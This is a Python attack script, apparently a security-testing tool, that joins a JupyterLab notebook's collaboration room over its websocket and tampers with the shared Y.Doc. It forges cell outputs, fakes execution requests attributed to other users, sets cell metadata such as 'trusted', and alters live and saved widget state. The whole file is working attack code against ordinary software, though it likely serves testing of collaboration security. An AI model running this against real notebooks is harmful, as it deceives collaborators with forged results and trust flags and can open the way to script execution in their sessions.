"""A room member turned attacker: edits a notebook's shared document over its websocket.

Anyone who may join a notebook's collaboration room can write anything into its Y.Doc.
This client does what such an attacker would do, with room access only and no REST call
besides opening the collaboration session:

    python attacker.py --base-url http://localhost:8888 --path folder/victim.ipynb \\
        --actions '[{"action": "set_outputs", "cell": 0, "outputs": [...], "replace": true}]'

It opens the notebook's collaboration session (`PUT /api/collaboration/session/<path>`),
joins the room's websocket with pycrdt's Provider, waits until it holds the cells, and
applies every action in one transaction. It exits once the server holds that
transaction: a fresh client joins the room until the state vector that the server
sends it includes the attacker's last write. It prints a JSON summary on stdout, and
exits with 1 (and a message on stderr) when an action cannot be applied.

Actions, JSON objects with an "action" key:

- `set_outputs` {cell, outputs, replace}: write nbformat outputs into the cell at index
  `cell`, after its outputs or instead of them, as @jupyter/ydoc writes them (a Y.Map per
  output, a stream's text as a Y.Text).
- `add_request` {cell, status, submitted_by}: a forged entry of `collab_exec.requests`
  naming that cell's id.
- `set_cell_metadata` {cell, key, value}: one key of a cell's metadata (`trusted`, say).
- `set_widget_state_value` {model_name, key, value}: one state key of every model of
  `collab_widgets.models` with that model name.
- `set_saved_widget_state_value` {model_name, key, value}: the same in the saved widget
  state of the notebook metadata `widgets` (`application/vnd.jupyter.widget-state+json`).
"""

from __future__ import annotations

import argparse
import asyncio
import copy
import json
import sys
import time
import uuid
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

import httpx
from httpx_ws import aconnect_ws
from pycrdt import Array, Decoder, Doc, Map, Provider, Text
from pycrdt.websocket.websocket import HttpxWebsocket

WIDGET_STATE_MIME = "application/vnd.jupyter.widget-state+json"
TIMEOUT = 30.0

Action = dict[str, Any]


class AttackError(Exception):
    """An action that the document does not allow (no such cell, no such model)."""


@dataclass
class Room:
    """A notebook's collaboration room, as its session names it."""

    base_url: str
    room_id: str
    session_id: str

    @property
    def url(self) -> str:
        return f"{self.base_url}/api/collaboration/room/{self.room_id}?sessionId={self.session_id}"


@dataclass
class Joined:
    """A Doc synced with the room, and a way to wait for its changes."""

    doc: Doc[Any]
    changed: asyncio.Event = field(default_factory=asyncio.Event)

    async def wait_until(self, predicate: Callable[[], bool], what: str) -> None:
        loop = asyncio.get_running_loop()
        deadline = loop.time() + TIMEOUT
        while not predicate():
            remaining = deadline - loop.time()
            if remaining <= 0:
                raise AttackError(f"timed out after {TIMEOUT} s waiting for {what}")
            self.changed.clear()
            try:
                await asyncio.wait_for(self.changed.wait(), min(remaining, 0.5))
            except asyncio.TimeoutError:
                continue


async def open_session(http: httpx.AsyncClient, base_url: str, path: str) -> Room:
    """Open the notebook's collaboration session, as JupyterLab does before it joins."""
    response = await http.put(
        f"{base_url}/api/collaboration/session/{quote(path, safe='/')}",
        json={"format": "json", "type": "notebook"},
    )
    response.raise_for_status()
    session = response.json()
    return Room(base_url, f"json:notebook:{session['fileId']}", str(session["sessionId"]))


@asynccontextmanager
async def joined(room: Room) -> AsyncIterator[Joined]:
    """A fresh client joined to the room, once it is synced and holds the cells."""
    client = Joined(Doc())
    cells: Array[Any] = client.doc.get("cells", type=Array)
    subscription = client.doc.observe(lambda _event: client.changed.set())
    try:
        async with (
            aconnect_ws(room.url) as websocket,  # type: ignore[var-annotated]
            Provider(client.doc, HttpxWebsocket(websocket, room.room_id)) as provider,
        ):
            await asyncio.wait_for(provider.synced.wait(), TIMEOUT)
            await client.wait_until(lambda: len(cells) > 0, "the notebook's cells")
            yield client
    finally:
        client.doc.unobserve(subscription)


def state_vector(doc: Doc[Any]) -> dict[int, int]:
    """A Doc's state vector: the next clock of each client it holds writes of."""
    decoder = Decoder(doc.get_state())
    clocks: dict[int, int] = {}
    for _ in range(decoder.read_var_uint()):
        client = decoder.read_var_uint()
        clocks[client] = decoder.read_var_uint()
    return clocks


# The actions.


def _cell(doc: Doc[Any], index: Any) -> Map[Any]:
    cells: Array[Any] = doc.get("cells", type=Array)
    if not isinstance(index, int) or not 0 <= index < len(cells):
        raise AttackError(f"no cell at index {index!r} (the notebook has {len(cells)})")
    cell = cells[index]
    if not isinstance(cell, Map):
        raise AttackError(f"cell {index} is not a map")
    return cell


def _youtput(output: dict[str, Any]) -> Map[Any]:
    """An output as @jupyter/ydoc's createOutputs builds it."""
    value = copy.deepcopy(output)
    if value.get("output_type") == "stream":
        text = value.get("text", "")
        value["text"] = Text(text if isinstance(text, str) else "".join(text))
    return Map(value)


def set_outputs(doc: Doc[Any], action: Action) -> dict[str, Any]:
    cell = _cell(doc, action.get("cell"))
    outputs = action.get("outputs")
    if not isinstance(outputs, list) or not all(isinstance(item, dict) for item in outputs):
        raise AttackError("set_outputs needs `outputs`, a list of nbformat outputs")
    youtputs = cell.get("outputs")
    if not isinstance(youtputs, Array):
        youtputs = Array()
        cell["outputs"] = youtputs
    if action.get("replace", True):
        youtputs.clear()
    youtputs.extend([_youtput(output) for output in outputs])
    return {"cell_id": cell.get("id"), "outputs": len(youtputs)}


def add_request(doc: Doc[Any], action: Action) -> dict[str, Any]:
    cell = _cell(doc, action.get("cell"))
    root: Map[Any] = doc.get("collab_exec", type=Map)
    requests = root.get("requests")
    if not isinstance(requests, Map):
        requests = Map()
        root["requests"] = requests
    kernel = root.get("kernel")
    kernel_id = kernel.get("kernel_id", "") if isinstance(kernel, Map) else ""
    now = time.time() * 1000
    request_id = uuid.uuid4().hex
    requests[request_id] = Map(
        {
            "cell_id": cell.get("id"),
            "kernel_id": kernel_id,
            "status": action.get("status", "ok"),
            "submitted_by": action.get(
                "submitted_by", {"username": "attacker", "display_name": "Attacker"}
            ),
            "submitted_at": now,
            "started_at": now,
            "finished_at": now,
            "execution_count": 1,
        }
    )
    return {"request_id": request_id, "cell_id": cell.get("id")}


def set_cell_metadata(doc: Doc[Any], action: Action) -> dict[str, Any]:
    cell = _cell(doc, action.get("cell"))
    key = action.get("key")
    if not isinstance(key, str):
        raise AttackError("set_cell_metadata needs a `key`")
    metadata = cell.get("metadata")
    if isinstance(metadata, Map):
        metadata[key] = action.get("value")
    else:
        # Not a shared map: the whole metadata is replaced, as a plain value.
        plain = dict(metadata) if isinstance(metadata, dict) else {}
        plain[key] = action.get("value")
        cell["metadata"] = Map(plain)
    return {"cell_id": cell.get("id"), "key": key}


def _model_name_and_key(action: Action) -> tuple[str, str]:
    model_name, key = action.get("model_name"), action.get("key")
    if not isinstance(model_name, str) or not isinstance(key, str):
        raise AttackError(f"{action.get('action')} needs `model_name` and `key`")
    return model_name, key


def set_widget_state_value(doc: Doc[Any], action: Action) -> dict[str, Any]:
    model_name, key = _model_name_and_key(action)
    models = doc.get("collab_widgets", type=Map).get("models")
    changed: list[str] = []
    if isinstance(models, Map):
        for model_id, entry in models.items():
            if not isinstance(entry, Map) or entry.get("model_name") != model_name:
                continue
            state = entry.get("state")
            if isinstance(state, Map):
                state[key] = copy.deepcopy(action.get("value"))
                changed.append(model_id)
    if not changed:
        raise AttackError(f"no {model_name} in collab_widgets.models")
    return {"model_ids": changed}


def set_saved_widget_state_value(doc: Doc[Any], action: Action) -> dict[str, Any]:
    model_name, key = _model_name_and_key(action)
    metadata = doc.get("meta", type=Map).get("metadata")
    if not isinstance(metadata, Map):
        raise AttackError("the notebook has no metadata map")
    widgets = metadata.get("widgets")
    saved = widgets.to_py() if isinstance(widgets, Map) else copy.deepcopy(widgets)
    models = (saved or {}).get(WIDGET_STATE_MIME, {}).get("state", {})
    changed: list[str] = []
    for model_id, model in models.items():
        if isinstance(model, dict) and model.get("model_name") == model_name:
            model.setdefault("state", {})[key] = copy.deepcopy(action.get("value"))
            changed.append(model_id)
    if not changed:
        raise AttackError(f"no {model_name} in the saved widget state")
    # A browser changes a metadata key by setting it whole.
    metadata["widgets"] = saved
    return {"model_ids": changed}


ACTIONS: dict[str, Callable[[Doc[Any], Action], dict[str, Any]]] = {
    "set_outputs": set_outputs,
    "add_request": add_request,
    "set_cell_metadata": set_cell_metadata,
    "set_widget_state_value": set_widget_state_value,
    "set_saved_widget_state_value": set_saved_widget_state_value,
}


def _needs_saved_state(actions: list[Action]) -> bool:
    return any(action.get("action") == "set_saved_widget_state_value" for action in actions)


def _has_metadata(doc: Doc[Any]) -> bool:
    return isinstance(doc.get("meta", type=Map).get("metadata"), Map)


async def attack(base_url: str, path: str, actions: list[Action]) -> dict[str, Any]:
    for action in actions:
        if action.get("action") not in ACTIONS:
            raise AttackError(f"unknown action {action.get('action')!r}")
    async with httpx.AsyncClient(timeout=TIMEOUT) as http:
        room = await open_session(http, base_url, path)
    results: list[dict[str, Any]] = []
    async with joined(room) as attacker:
        if _needs_saved_state(actions):
            await attacker.wait_until(
                lambda: _has_metadata(attacker.doc), "the notebook's metadata"
            )
        with attacker.doc.transaction():
            for action in actions:
                results.append(
                    {"action": action["action"], **ACTIONS[action["action"]](attacker.doc, action)}
                )
        client_id = attacker.doc.client_id
        clock = state_vector(attacker.doc).get(client_id, 0)
        # The server holds the update once a fresh client gets it from the server.
        loop = asyncio.get_running_loop()
        deadline = loop.time() + TIMEOUT
        while True:
            async with joined(room) as witness:
                if state_vector(witness.doc).get(client_id, 0) >= clock:
                    break
            if loop.time() > deadline:
                raise AttackError("the server did not receive the attacker's update")
            await asyncio.sleep(0.1)
    return {
        "path": path,
        "room_id": room.room_id,
        "session_id": room.session_id,
        "client_id": client_id,
        "clock": clock,
        "results": results,
    }


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--base-url", required=True, help="the server, e.g. http://localhost:8888")
    parser.add_argument("--path", required=True, help="the notebook's path on the server")
    parser.add_argument("--actions", required=True, help="a JSON list of actions")
    arguments = parser.parse_args(argv)
    try:
        actions = json.loads(arguments.actions)
    except json.JSONDecodeError as error:
        parser.error(f"--actions is not JSON: {error}")
    if not isinstance(actions, list) or not all(isinstance(item, dict) for item in actions):
        parser.error("--actions must be a JSON list of objects")
    try:
        summary = asyncio.run(attack(arguments.base_url.rstrip("/"), arguments.path, actions))
    except (AttackError, httpx.HTTPError) as error:
        print(f"attacker: {error}", file=sys.stderr)
        return 1
    print(json.dumps(summary))
    return 0


if __name__ == "__main__":
    sys.exit(main())
